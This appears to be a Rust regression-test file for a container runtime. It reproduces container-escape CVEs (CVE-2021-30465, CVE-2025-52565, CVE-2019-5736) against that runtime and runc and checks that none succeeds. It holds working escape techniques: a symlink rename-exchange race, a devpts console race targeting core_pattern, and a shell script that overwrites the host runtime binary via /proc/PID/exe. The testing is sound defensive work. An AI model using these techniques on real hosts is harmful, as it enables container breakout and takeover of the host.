//! Attacks that need somebody who changes things meanwhile, on this runtime and on runc: nothing comes of them with either,
//! round after round, and something does with who is led by names.

use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};

use serde_json::{Value, json};
use sys::rustix::fs::{CWD, FileType, Mode, RenameFlags, makedev, mknodat, renameat_with};

use super::attacks::{SECRET, is_untouched, upwards, without_dev};
use super::events::pipe;
use super::{add_bind, pair, runc};
use crate::bundle::Bundle;
use crate::details::{more, receive};

/// How often each is tried.
const ROUNDS: usize = 30;

/// How often who is led by names tries, half of which should do.
const TRIES: usize = 1000;

/// In `data`, a volume of the container, the directory or file `place` and a link to `target` change places all the time.
struct Race {
    name: &'static str,
    place: &'static str,
    target: fn(host: &Path) -> PathBuf,
    spec: fn(&mut Value),
    /// What the container says beside the secret when it was led elsewhere.
    script: &'static str,
}

const RACES: &[Race] = &[
    Race {
        name: "CVE-2021-30465",
        place: "inner",
        target: upwards,
        spec: |spec| {
            add_bind(spec, "@BUNDLE/data", "/vol");
            let tmpfs = json!({ "destination": "/vol/inner", "type": "tmpfs", "source": "tmpfs" });
            spec["mounts"].as_array_mut().unwrap().push(tmpfs);
        },
        script: "cat /vol/inner/victim /vol/link/victim",
    },
    Race {
        name: "CVE-2021-30465, below it",
        place: "inner",
        target: upwards,
        spec: |spec| {
            add_bind(spec, "@BUNDLE/data", "/vol");
            add_bind(spec, "@BUNDLE/data/file", "/vol/inner/made/deep");
        },
        script: "cat /vol/inner/victim /vol/link/victim",
    },
    Race {
        name: "CVE-2025-52565",
        place: "console",
        target: |_| PathBuf::from("/proc/sys/kernel/core_pattern"),
        spec: |spec| {
            without_dev(spec);
            add_bind(spec, "@BUNDLE/data", "/dev");
            let devpts = json!({ "destination": "/dev/pts", "type": "devpts", "source": "devpts",
                "options": ["nosuid", "noexec", "newinstance", "ptmxmode=0666", "mode=0620"] });
            spec["mounts"].as_array_mut().unwrap().push(devpts);
            spec["process"]["terminal"] = json!(true);
        },
        script: "grep -q ' /proc/sys/kernel' /proc/self/mountinfo && echo not for the container",
    },
    Race {
        name: "CVE-2025-52565, upwards",
        place: "console",
        target: |host| upwards(&host.join("made")),
        spec: |spec| (RACES[2].spec)(spec),
        script: "true",
    },
];

/// Has two entries of directories change places as long as `meanwhile` takes.
fn exchanging<T>(one: &Path, other: &Path, meanwhile: impl FnOnce() -> T) -> T {
    struct Over<'a>(&'a AtomicBool);
    impl Drop for Over<'_> {
        fn drop(&mut self) {
            self.0.store(true, Ordering::Relaxed);
        }
    }
    let over = AtomicBool::new(false);
    std::thread::scope(|scope| {
        scope.spawn(|| {
            while !over.load(Ordering::Relaxed) {
                renameat_with(CWD, one, CWD, other, RenameFlags::EXCHANGE).unwrap();
            }
        });
        let _over = Over(&over);
        meanwhile()
    })
}

/// The directory of the host that nobody may come to, and what is in it.
fn host() -> tempfile::TempDir {
    let host = tempfile::tempdir().unwrap();
    std::fs::write(host.path().join("victim"), SECRET).unwrap();
    host
}

/// Puts what changes places into a bundle.
fn furnish(race: &Race, bundle: &Bundle, host: &Path) -> [PathBuf; 2] {
    let data = bundle.path().join("data");
    let (place, link) = (data.join(race.place), data.join("link"));
    if !place.exists() {
        std::fs::write(&place, "").unwrap();
        // A volume in the place of `/dev` has what masks are made of.
        mknodat(CWD, data.join("null"), FileType::CharacterDevice, Mode::from(0o666), makedev(1, 3)).unwrap();
    }
    symlink((race.target)(host), &link).unwrap();
    [place, link]
}

/// Runs a container with a terminal or without; what it says, and what the runtime does.
fn run(bundle: &Bundle) -> String {
    let config: Value = serde_json::from_slice(&std::fs::read(bundle.path().join("config.json")).unwrap()).unwrap();
    if config["process"]["terminal"] != json!(true) {
        return bundle.run().1;
    }
    let socket = bundle.path().join("console.sock");
    let listener = UnixListener::bind(&socket).unwrap();
    let words = ["create", "--bundle", bundle.path().to_str().unwrap(), "--console-socket", socket.to_str().unwrap()];
    let mut text = String::new();
    if bundle.output(&[&words[..], &[&bundle.id]].concat()).status.success() {
        let mut master = std::fs::File::from(receive(&listener).1);
        bundle.done(&["start", &bundle.id]);
        while more(&mut master, &mut text) {}
        bundle.done(&["delete", "--force", &bundle.id]);
    }
    std::fs::remove_file(socket).unwrap();
    text
}

/// In how many rounds something came of it.
fn harmed(race: &Race, bundle: &Bundle, host: &Path) -> usize {
    let [place, link] = furnish(race, bundle, host);
    let round = |_: &usize| run(bundle).contains(SECRET) || !is_untouched(host);
    exchanging(&place, &link, || (0..ROUNDS).filter(round).count())
}

pub(super) fn all() {
    for race in RACES {
        let host = host();
        let pair = pair(&format!("race-{}", race.place), race.script, race.spec);
        let harmed = pair.each_ref().map(|bundle| harmed(race, bundle, host.path()));
        assert_eq!(harmed, [0, 0], "{}", race.name);
    }
}

/// The exchange is one that a name leads astray: else the runtimes above would have been in no race.
pub(super) fn led_by_names() {
    let host = host();
    let dir = tempfile::tempdir().unwrap();
    let (place, link) = (dir.path().join("place"), dir.path().join("link"));
    std::fs::create_dir(&place).unwrap();
    symlink(host.path(), &link).unwrap();
    exchanging(&place, &link, || {
        let made = |_| {
            // What was there, is, with one or the other.
            let _ = std::fs::create_dir_all(place.join("made"));
            !is_untouched(host.path())
        };
        assert!((0..TRIES).any(made), "nobody is led astray");
    });
}

/// Opens the program of each process that comes into the container, and writes to it as soon as that can be.
const ATTACKER: &str = r#"
    known=" $(echo /proc/[0-9]*) "
    overwrite() { i=0; while [ $i -lt 5000 ]; do echo overwritten > /proc/self/fd/3 && return; i=$((i + 1)); done; }
    echo ready > /told
    while :; do
        for process in /proc/[0-9]*; do
            case "$known" in *" $process "*) continue;; esac
            [ $process/exe -ef /proc/1/exe ] || { echo reached >> /reached; overwrite; } 3< $process/exe
        done
    done 2> /dev/null"#;

/// A container in which the program of who comes in is attacked. The program of whoever executes `/hostile` comes in.
fn trap(program: &Path, name: &str) -> Bundle {
    let bundle = Bundle::of(program.to_owned(), "runc", name, ATTACKER);
    bundle.change(|spec| spec["root"]["readonly"] = json!(false));
    let hostile = bundle.path().join("rootfs/hostile");
    // A program that goes by its name is a shell there, and has something to do.
    symlink("/proc/self/exe", bundle.path().join("rootfs/sh")).unwrap();
    std::fs::write(&hostile, "#!/sh\ni=0; while [ $i -lt 10000 ]; do i=$((i + 1)); done\n").unwrap();
    std::fs::set_permissions(&hostile, std::fs::Permissions::from_mode(0o755)).unwrap();
    // A program that is linked begins by its loader, which looks for libraries then.
    let loader = Path::new("/lib64/ld-linux-x86-64.so.2");
    if loader.exists() {
        std::fs::create_dir(bundle.path().join("rootfs/lib64")).unwrap();
        std::fs::copy(loader, bundle.path().join("rootfs").join(loader.strip_prefix("/").unwrap())).unwrap();
    }
    bundle
}

/// Has the program of who comes into the container by `enter` attacked; whether it was reached there, and whether it is another
/// now.
fn attack(program: &Path, bundle: &Bundle, enter: impl Fn(&Bundle)) -> [bool; 2] {
    let length = || std::fs::metadata(program).unwrap().len();
    let before = length();
    let told = pipe(bundle);
    bundle.create(&[]);
    bundle.done(&["start", &bundle.id]);
    assert_eq!(std::fs::read_to_string(told).unwrap(), "ready\n");
    let is_overwritten = |_| {
        enter(bundle);
        length() != before
    };
    let is_overwritten = (0..ROUNDS).any(is_overwritten);
    [bundle.path().join("rootfs/reached").exists(), is_overwritten]
}

/// CVE-2019-5736: with `exec` of a script whose interpreter is `/proc/self/exe` it is the runtime that begins in the container.
pub(super) fn own_program() {
    let dir = tempfile::tempdir().unwrap();
    let copy = |name: &str, program: PathBuf| {
        let copy = dir.path().join(name);
        std::fs::copy(program, &copy).unwrap();
        copy
    };
    let of = |name: &str, program: PathBuf| {
        let program = copy(name, program);
        let bundle = trap(&program, &format!("program-{name}"));
        attack(&program, &bundle, |bundle| drop(bundle.output(&["exec", &bundle.id, "/hostile"])))
    };
    assert_eq!(of("orlop", std::env::current_exe().unwrap()), [true, false]);
    assert_eq!(of("runc", runc()), [true, false]);
    // Another program that enters namespaces as it is. It goes on with all capabilities, so that one is needed to look at it.
    let bundle = trap(&std::env::current_exe().unwrap(), "program-plain");
    bundle.change(|spec| {
        let sets = spec["process"]["capabilities"].as_object_mut().unwrap();
        sets.values_mut().for_each(|set| set.as_array_mut().unwrap().push(json!("CAP_SYS_PTRACE")));
    });
    let plain = copy("busybox", bundle.path().join("rootfs/bin/busybox"));
    let enter = |bundle: &Bundle| {
        let mut enter = Command::new(&plain);
        enter.args(["nsenter", "-t", &bundle.pid().to_string(), "-m", "-p", "/hostile"]).stderr(Stdio::null());
        let _ = enter.status(); // It may be none any more.
    };
    assert_eq!(attack(&plain, &bundle, enter), [true, true], "nobody is attacked");
}
